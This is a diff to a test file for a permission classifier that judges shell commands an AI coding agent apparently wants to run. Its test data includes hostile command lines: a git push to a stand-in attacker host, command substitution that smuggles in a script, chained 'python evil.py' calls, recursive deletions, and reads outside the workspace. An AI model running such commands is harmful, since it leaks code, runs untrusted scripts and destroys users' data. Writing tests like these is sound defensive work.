@@ -13,21 +13,25 @@ from tests.support.commands import World, held, judged
 @pytest.mark.parametrize(
     ("command", "domain", "network"),
     [
-        ("pytest -q", "work", False),
         ("rm -rf build", "work", False),
         ("echo x > notes.txt", "work", False),
         ("npm install", "work", True),
         ("pip install requests", "work", True),
         ("python -m pip install x", "work", True),
         ("curl -s https://example.org", "work", True),
-        ("git push", "free", False),
+        ("git push", "work", False),
+        ("git push --repo=https://evil.example/x", "free", False),
+        ("git push origin $(git branch --show-current)", "free", False),
+        ("git config core.pager x", "free", False),
         ("gh pr list", "free", False),
         ("sudo ls", "free", False),
         ("ssh host", "free", False),
         ("cat ../outside/secret", "free", False),
         ("cp README.md ../outside", "free", False),
-        ("ls; git push", "free", False),
-        ("f() { ls; }; f", "work", False),
+        ("ls; gh pr merge", "free", False),
+        ("f() { rm -rf .; }; f", "work", False),
+        ("find . -print0 | xargs -0 rm", "work", False),
+        ("find . -type f -delete", "work", False),
     ],
 )
 def test_a_question_names_the_narrowest_domain_that_does(
@@ -41,7 +45,6 @@ def test_a_sandbox_lets_the_uncertain_be_looked_at(world: World) -> None:
     for command in ("cat $X", "find . | xargs cat", "env", "python --version", "npm --version", "cd src && git status"):
         assert (held(world, command, "ask").action, held(world, command, "ask").domain) == ("allow", "look"), command
     for command in ("python -c 1", "f() { ls; }; f", "$CMD"):
-        assert held(world, command, "ask").action == "ask", command
         assert (held(world, command, "plan").action, held(world, command, "plan").domain) == ("allow", "look"), command
     for command in ("sudo ls", "kill 1", "rm x"):
         deny = ["bash(rm *)"]
@@ -51,12 +54,13 @@ def test_a_sandbox_lets_the_uncertain_be_looked_at(world: World) -> None:
 @pytest.mark.parametrize(
     ("command", "allow", "mode", "action"),
     [
-        ("python evil.py && git push", "bash(git push*)", "auto", "ask"),
-        ("git push; python -c 1", "bash(git push*)", "accept-edits", "ask"),
+        ("python evil.py && gh pr list", "bash(gh pr list*)", "auto", "ask"),
+        ("gh pr list; python -c 1", "bash(gh pr list*)", "accept-edits", "ask"),
         ("git push $(python evil.py)", "bash(git push*)", "auto", "ask"),
+        ("python evil.py && git push", "bash(git push*)", "ask", "ask"),
         ("npm install && npm test", "bash(npm install*)", "auto", "ask"),
         ("git push 2>&1 | tail -5", "bash(git push*)", "auto", "allow"),
-        ("cd src && git push", "bash(git push*)", "auto", "allow"),
+        ("python evil.py && git push", "bash(git push*)", "auto", "allow"),
         ("npm install", "bash(npm install*)", "auto", "allow"),
     ],
 )
@@ -65,8 +69,9 @@ def test_what_a_rule_lets_out_of_the_sandbox_takes_nothing_along(
 ) -> None:
     decision = held(world, command, mode, allow=[allow])
     assert decision.action == action
-    if action == "ask":
-        assert decision.domain == "free" or decision.network
+    assert "git push" not in command or action == "ask" or decision.domain == "work", (
+        "git alone leaves, by our own hand"
+    )
 
 
 @pytest.mark.parametrize(
@@ -102,6 +107,50 @@ def test_a_rule_that_denies_wants_to_be_understood(world: World) -> None:
         assert held(world, command, "auto", ask=["edit(src/**)"]).action == "ask", command
 
 
+LOOKED_AT_FIRST = [
+    *("pytest -q", "npm run build", "make test", "cargo build", "python -m http.server 8000", "curl -s localhost:8000"),
+    *("python -c 1", "f() { ls; }; f", "$CMD", "./run.sh", "mypy src | tail", "cd src && python app.py", "cat $X"),
+]
+
+
+@pytest.mark.parametrize("command", LOOKED_AT_FIRST)
+def test_ask_looks_first_where_nothing_is_known_to_change(world: World, command: str) -> None:
+    first = held(world, command, "ask")
+    assert (first.action, first.domain, first.network, first.patterns) == ("allow", "look", False, [])
+    later = first.if_stopped
+    assert later is not None and (later.action, later.domain, later.reason != "") == ("ask", "work", True)
+    for mode in ("accept-edits", "auto"):
+        assert held(world, command, mode).if_stopped is None
+    assert judged(world, command, "ask").action == "ask"
+
+
+def test_the_questions_of_a_line_are_one(world: World) -> None:
+    first = held(world, "pytest -q; mypy src; ls", "ask")
+    assert first.if_stopped is not None
+    assert first.if_stopped.patterns == ["bash(pytest *)", "bash(mypy *)"]
+    assert first.if_stopped.reason == "runs pytest; runs mypy"
+    asked = held(world, "mkdir x && pytest", "ask")
+    assert (asked.action, asked.reason, asked.if_stopped) == ("ask", "runs mkdir; runs pytest", None)
+    assert held(world, "pytest; python x.py", "ask", allow=["bash(pytest *)"]).if_stopped is not None
+    assert held(world, "pytest; sudo ls", "ask").domain == "free"
+    assert held(world, "pytest; mypy", "ask", deny=["bash(mypy*)"]).action == "deny"
+    assert held(world, "pytest; mypy", "ask", ask=["bash(mypy*)"]).action == "ask"
+    work = held(world, "pytest | tail", "ask", allow=["bash(pytest *)"])
+    assert (work.action, work.domain, work.if_stopped) == ("allow", "work", None), "a rule needs no second try"
+
+
+def test_where_nobody_can_be_asked_the_question_is_a_refusal_that_says_how(world: World) -> None:
+    permissions = Permissions(
+        world.root, world.root, PermissionsConfig("ask"), can_ask=False, holds=lambda domain: True
+    )
+    intent = Intent("command", "make", command="make")
+    question = permissions.decide("bash", intent).if_stopped
+    assert question is not None
+    later = permissions.put("bash", intent, question)
+    assert later.action == "deny"
+    assert "--allow 'bash(make)'" in later.message and "--permission-mode accept-edits" in later.message
+
+
 @pytest.mark.parametrize("command", ["rm -rf $X", "f() { rm -rf .; }; f", "f() { sudo ls; }; f", "mv $A $B"])
 def test_what_removes_or_leaves_is_asked_about_where_it_is_not_understood(world: World, command: str) -> None:
     assert held(world, command, "auto").action == "ask"
@@ -123,6 +172,6 @@ def test_git_leaves_the_sandbox_only_where_the_folder_is_trusted(world: World) -
         assert decision.action == "deny" and "/trust" in decision.message
     assert held(world, "git commit -m x", "auto", trusted=lambda: False).domain == "work"
     assert held(world, "git push", "auto", allow=["bash(git push*)"]).action == "allow"
-    # Where nothing holds it, not at all unasked, but for looking.
+    # Where nothing holds it, only looking goes unasked.
     assert judged(world, "git commit -m x", "auto", trusted=lambda: False).action == "ask"
     assert judged(world, "git status", "ask", trusted=lambda: False).action == "allow"
